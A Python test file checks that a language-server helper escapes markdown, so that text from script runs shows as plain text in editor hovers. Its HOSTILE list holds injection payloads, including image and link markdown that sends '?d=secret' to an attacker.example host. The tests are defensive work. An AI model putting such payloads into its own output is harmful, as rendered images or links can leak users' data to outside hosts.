"""What a run could have written, shown in a hover's markdown, reads as the text it is in a
CommonMark renderer with GFM's tables, strikethrough and bare addresses made links (as VS
Code renders hovers: an address with a scheme or `www.`, and e-mail addresses): no link,
image, HTML, emphasis, code, list, table or heading, and every character shown. And it stays
readable where a client shows the markdown source (Neovim): only what can begin a construct
carries a backslash."""

from __future__ import annotations

import string

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from scriptcontract.lsp.markdown_text import as_text

_BLOCKS = {"paragraph_open", "paragraph_close", "inline"}
_INLINE = {"text", "softbreak", "hardbreak"}


def _renderer() -> MarkdownIt:
    md = MarkdownIt("gfm-like")
    assert md.linkify is not None  # linkify-it-py, of the test extras
    md.linkify.set({"fuzzy_link": False})  # `hello.py` is no link to VS Code either
    return md


def _read(markdown: str) -> tuple[set[str], str]:
    """The kinds of what a renderer makes of `markdown`, and the text it shows."""
    kinds: set[str] = set()
    paragraphs: list[str] = []
    for token in _renderer().parse(markdown):
        kinds.add(token.type)
        if token.type == "inline":
            shown = ""
            for child in token.children or []:
                kinds.add(child.type)
                shown += child.content if child.type == "text" else "\n"
            paragraphs.append(shown)
    return kinds, "\n".join(paragraphs)


def _as_rendered(text: str) -> str:
    """`text` as markdown shows plain text: each line without the blanks at its ends, and
    no empty line (which only parts paragraphs)."""
    lines = (line.strip(" \t") for line in text.split("\n"))
    return "\n".join(line for line in lines if line)


HOSTILE = [
    "![x](https://attacker.example/?d=secret)",
    "[click](https://attacker.example/?d=secret)",
    "<img src=https://attacker.example/?d=secret>",
    "<https://attacker.example/?d=secret>",
    "see https://attacker.example/?d=secret or www.attacker.com/?d=x or mail a@attacker.com",
    "[x]: https://attacker.example/?d=secret\n\n[x]",
    "# heading\n\ntext\n===\n\ntext\n---\n\n> quote\n\n- item\n+ item\n1. item\n2) item",
    "| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```\n~~~\ncode\n~~~\n`code` ~~gone~~ *em* _em_ **strong** __strong__",
    "    indented code\n\ttabbed",
    "&lt;img&gt; &#33;[x](y) \\*not em\\* trailing\\\nnext",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_run_wrote_reads_as_text(text: str) -> None:
    kinds, shown = _read(as_text(text))
    assert kinds <= _BLOCKS | _INLINE, kinds
    assert shown == _as_rendered(text)
    # The positive control: unescaped, the renderer makes something of each.
    raw_kinds, _ = _read(text)
    assert not raw_kinds <= _BLOCKS | _INLINE or _read(text)[1] != _as_rendered(text)


_ALPHABET = string.ascii_letters[:6] + string.digits[:3] + string.punctuation + " \t\n"
_PIECES = ["www", "http", "https://", "mailto:", "@", "1.", "2)", "-", "    ", "![", "](", "\\"]


@example(["0\t\n", "0"])  # a tab ending a line: CommonMark keeps it before a line break
@settings(max_examples=400, deadline=None)
@given(st.lists(st.text(_ALPHABET, max_size=6) | st.sampled_from(_PIECES), max_size=12))
def test_any_text_reads_as_itself(parts: list[str]) -> None:
    text = "".join(parts)
    kinds, shown = _read(as_text(text))
    assert kinds <= _BLOCKS | _INLINE, (text, kinds)
    assert shown == _as_rendered(text), text


def test_a_bare_www_address_is_broken_as_vs_code_would_link_it() -> None:
    """VS Code's renderer links `www.host` without a scheme; the renderer above links such
    addresses only with its fuzzy links, which would link every `hello.py` too."""
    assert as_text("see www.attacker.com/?d=secret") == "see www\\.attacker.com/?d=secret"


def test_only_what_can_begin_a_construct_carries_a_backslash() -> None:
    heading = '"operation": "uppercase" | "title", optional, default "uppercase" (from x_y.py)'
    assert as_text(heading) == (
        '"operation": "uppercase" \\| "title", optional, default "uppercase" (from x\\_y.py)'
    )
